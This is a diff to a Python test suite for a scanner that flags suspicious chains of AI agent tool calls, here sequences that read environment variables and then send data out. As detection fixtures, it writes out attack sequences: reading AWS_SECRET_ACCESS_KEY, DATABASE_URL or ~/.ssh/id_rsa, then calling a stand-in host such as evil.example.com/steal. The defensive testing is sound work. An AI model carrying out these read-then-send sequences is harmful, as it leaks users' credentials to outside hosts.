@@ -26,6 +26,10 @@ def blocked_chain(calls, ts=TS):
 CHAIN_TP = [
     ("env_exfiltration", [("get_env", {"variable": "DATABASE_URL"}),
                           ("fetch", {"url": "https://evil.example.com/steal?data=env"})]),
+    ("env_exfiltration", [("get_environment", {"names": ["PATH", "AWS_SECRET_ACCESS_KEY"]}),
+                          ("upload_crash_report", {"app": "cli", "attachments": [{"name": "t.txt", "content": "x"}]})]),
+    ("env_exfiltration", [("get_environment", {"names": []}), ("fetch", {"url": "https://x.example/in"})]),
+    ("env_exfiltration", [("get_environment", {"keys": ["LANG"] * 64}), ("fetch", {"url": "https://x.example/in"})]),
     ("env_exfiltration", [("bash", {"command": "printenv"}), ("list_dir", {"path": "."}),
                           ("http_post", {"url": "https://x.example/in", "body": "..."})]),
     ("secret_exfiltration", [("read_file", {"path": "~/.ssh/id_rsa"}), ("write_file", {"path": "/tmp/k", "content": "x"}),
@@ -59,6 +63,10 @@ CHAIN_TN = [
      ("write_file", {"path": "/home/user/project/summary.md", "content": "# Project Summary"})],
     [("list_directory", {"path": "/home/user/project"}), ("read_file", {"path": "/home/user/project/main.py"})],
     [("get_env", {"variable": "HOME"}), ("fetch", {"url": "https://docs.python.org/3/"})],
+    # a filtered read of ordinary variables only, as a list
+    [("get_environment", {"names": ["PATH", "LANG", "SHELL"]}),
+     ("upload_crash_report", {"app": "cli", "attachments": [{"name": "t.txt", "content": "LANG=en_US.UTF-8"}]})],
+    [("read_env", {"keys": ["TZ", "TERM", "HOME"]}), ("fetch", {"url": "https://docs.python.org/3/"})],
     [("write_file", {"path": "src/app.py", "content": "print('hi')"}), ("run_command", {"command": "python -m pytest -q"})],
     [("write_file", {"path": "tests/test_a.py", "content": "def test(): pass"}),
      ("run_command", {"command": "pytest tests/test_a.py"})],   # executing your own test file: warn at most
@@ -96,3 +104,34 @@ def test_history_is_bounded():
     for i in range(500):
         TS.scan_tool_call("read_file", {"path": f"/p/{i}"}, s)
     assert len(s.chains.calls) == 20
+
+
+# An environment read that names only ordinary variables (crash reports, diagnostics), in
+# every shape a tool takes names, then any network tool: no env_exfiltration. One secret
+# name among them, or no names at all, is still an environment read.
+_ORDINARY = ["PATH", "LANG", "SHELL", "HOME", "TERM", "TZ", "USER", "PWD"]
+_NET = [("upload_crash_report", {"app": "cli", "attachments": [{"name": "t.txt", "content": "KeyError"}]}),
+        ("http_post", {"url": "https://telemetry.example.com/v1", "body": "LANG=en_US.UTF-8"}),
+        ("send_message", {"to": "ops@example.com", "text": "diagnostics attached"})]
+
+
+def _shapes(names):
+    return [("get_environment", {"names": names}), ("get_env", {"variables": names}),
+            ("read_env", {"keys": ",".join(names)}), ("getenv", {"name": names[0]})]
+
+
+@pytest.mark.parametrize("k", range(4))
+def test_named_ordinary_env_reads_then_network_do_not_chain(k):
+    names = _ORDINARY[k:k + 3]
+    for env in _shapes(names):
+        for net in _NET:
+            assert "env_exfiltration" not in rules([env, net]), (env, net)
+
+
+@pytest.mark.parametrize("secret", ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DATABASE_URL", "OPENAI_API_KEY"])
+def test_a_secret_name_or_no_names_still_chains(secret):
+    for env in _shapes([secret, "PATH", "LANG"]) + [("get_environment", {}), ("get_env", {"names": []})]:
+        if env[0] == "getenv":
+            env = ("getenv", {"name": secret})
+        for net in _NET:
+            assert "env_exfiltration" in blocked_chain([env, net]), (env, net)
